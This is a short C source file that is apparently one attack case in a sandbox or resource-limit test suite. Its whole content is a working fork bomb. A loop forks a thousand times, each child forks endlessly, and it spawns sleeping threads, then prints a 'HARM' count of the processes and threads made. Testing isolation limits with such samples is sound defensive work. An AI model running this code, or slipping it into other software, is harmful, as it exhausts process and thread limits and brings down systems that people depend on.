/* Makes processes and threads endlessly. */
#include <pthread.h>
#include <stdio.h>
#include <unistd.h>

static void *
attack_sleep(void *argument)
{
	pause();
	return NULL;
}

ATTACK
{
	unsigned made = 0;
	pthread_t thread;

	for (unsigned i = 0; i < 1000; i++) {
		pid_t child = fork();

		if (child == 0)
			for (;;)
				fork();
		made += child > 0;
		made += pthread_create(&thread, NULL, attack_sleep, NULL) == 0;
	}
	if (made > 0)
		fprintf(stderr, "HARM: %u processes and threads were made\n", made);
	_exit(1);
}
